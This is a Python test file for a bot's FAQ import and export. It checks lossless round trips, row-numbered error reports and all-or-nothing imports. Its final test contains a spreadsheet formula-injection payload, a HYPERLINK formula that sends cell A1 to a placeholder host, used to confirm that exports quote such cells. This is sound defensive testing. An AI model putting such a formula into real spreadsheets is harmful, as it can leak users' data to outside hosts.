"""FAQ import/export: lossless round trips in every format, all-or-nothing imports."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from bot.knowledge import kb, kb_io
from bot.settings import PROJECT_ROOT


@pytest.fixture
def faq_dir(tmp_path):
    """A writable copy of two shipped FAQ files."""
    folder = tmp_path / "faq"
    folder.mkdir()
    for name in ("family.yml", "civil_services.yml"):
        shutil.copy(PROJECT_ROOT / "knowledge_base" / "faq" / name, folder / name)
    return folder


def exported(entries, fmt: str) -> bytes:
    out = io.BytesIO()
    kb_io.export(entries, fmt, out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", kb_io.FORMATS)
def test_round_trip_is_lossless(fmt, faq_dir, library):
    before = kb.load(faq_dir, library)
    data = exported(before.entries, fmt)
    for path in faq_dir.glob("*.yml"):
        path.unlink()
    result = kb_io.import_entries(data, fmt, faq_dir, library)
    assert result.problems == [] and result.added == len(before)
    after = kb.load(faq_dir, library)
    assert after.entries == before.entries and after.version == before.version


def test_reimport_into_the_same_files_changes_nothing_and_keeps_comments(faq_dir, library):
    header = (faq_dir / "family.yml").read_text(encoding="utf-8").splitlines()[0]
    before = kb.load(faq_dir, library)
    result = kb_io.import_entries(exported(before.entries, "csv"), "csv", faq_dir, library)
    assert (result.added, result.updated, result.removed) == (0, 0, 0)
    assert kb.load(faq_dir, library).version == before.version
    assert (faq_dir / "family.yml").read_text(encoding="utf-8").startswith(header + "\n")


def test_a_bad_row_is_reported_by_number_and_nothing_is_written(faq_dir, library):
    before = {p.name: p.read_bytes() for p in faq_dir.glob("*.yml")}
    entries = kb.load(faq_dir, library).entries
    rows = [kb.entry_to_dict(e) for e in entries[:3]]
    rows[0]["answer"] = "改过的答案。"  # a valid change
    rows[1]["citations"] = [{"law": "中华人民共和国民法典", "article": 99999}]  # no such article
    rows[2] = {k: v for k, v in rows[2].items() if k != "question"}  # missing field
    data = "\n".join(json.dumps(r, ensure_ascii=False) for r in rows).encode() + b"\n{broken\n"
    result = kb_io.import_entries(data, "jsonl", faq_dir, library)
    text = "\n".join(map(str, result.problems))
    assert f"row 2 ({entries[1].id}): citations" in text and "no article 99999" in text
    assert f"row 3 ({entries[2].id}): question: missing field" in text
    assert "row 4: -: not valid JSON" in text and "row 1" not in text
    assert {p.name: p.read_bytes() for p in faq_dir.glob("*.yml")} == before


def test_a_number_too_long_for_python_is_a_bad_row_not_a_crash(faq_dir, library):
    # json.loads raises a plain ValueError (no JSONDecodeError, no .msg) beyond 4300 digits
    data = b'{"id": "huge", "answer": ' + b"1" * 5000 + b"}\n"
    problems = kb_io.import_entries(data, "jsonl", faq_dir, library).problems
    assert len(problems) == 1 and str(problems[0]).startswith("row 1: -: not valid JSON (Exceeds the limit")


def test_csv_rows_are_numbered_as_in_a_spreadsheet(faq_dir, library):
    entry = kb.load(faq_dir, library).entries[0]
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, fieldnames=kb_io.COLUMNS)
    writer.writeheader()
    writer.writerow(kb_io.to_row(entry))
    writer.writerow(kb_io.to_row(entry) | {"id": "other-id", "topic": "不存在的主题"})
    writer.writerow(kb_io.to_row(entry))
    problems = kb_io.import_entries(text.getvalue().encode(), "csv", faq_dir, library).problems
    assert [str(p) for p in problems] == [
        "row 3 (other-id): topic: '不存在的主题' is not one of the 20 topics",
        f"row 4 ({entry.id}): id: same id as row 2",
    ]


def test_new_entries_go_to_the_import_file_and_replace_drops_the_rest(faq_dir, library):
    entry = kb.load(faq_dir, library).entries[0]
    new = kb.entry_to_dict(entry) | {"id": "brand-new-entry", "question": "全新的问题是什么"}
    data = json.dumps(new, ensure_ascii=False).encode()
    result = kb_io.import_entries(data, "jsonl", faq_dir, library)
    assert result.added == 1 and (faq_dir / kb_io.IMPORT_FILE).exists()
    assert kb.load(faq_dir, library).get("brand-new-entry").question == "全新的问题是什么"
    result = kb_io.import_entries(data, "jsonl", faq_dir, library, replace=True)
    assert len(kb.load(faq_dir, library)) == 1 and result.removed > 50


def test_unknown_format_and_missing_columns():
    with pytest.raises(ValueError):
        kb_io.format_of(kb_io.Path("faq.doc"))
    rows = kb_io.read_rows("标题,内容\n甲,乙\n".encode(), "csv")
    assert rows[0][0] == 1 and "lacks column(s) id, question" in rows[0][2]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_never_writes_a_spreadsheet_formula(fmt, faq_dir, library):
    """A cell starting with = + - @ (or tab/CR) would run as a formula in Excel: it is quoted, and the
    import takes the quote off again (the round trip stays lossless)."""
    import dataclasses

    before = kb.load(faq_dir, library)
    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
    entries = [dataclasses.replace(before.entries[0], answer=attack, paraphrases=("+1 怎么办", "@某人"))]
    entries += before.entries[1:]
    data = exported(entries, fmt)
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula cell
    assert "'" + attack in cells and "'+1 怎么办\n@某人" in cells
    assert not any(str(c)[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
    rows = kb_io.read_rows(data, fmt)
    first = next(raw for _, raw, _ in rows if raw["id"] == entries[0].id)
    assert first["answer"] == attack and first["paraphrases"] == ["+1 怎么办", "@某人"]
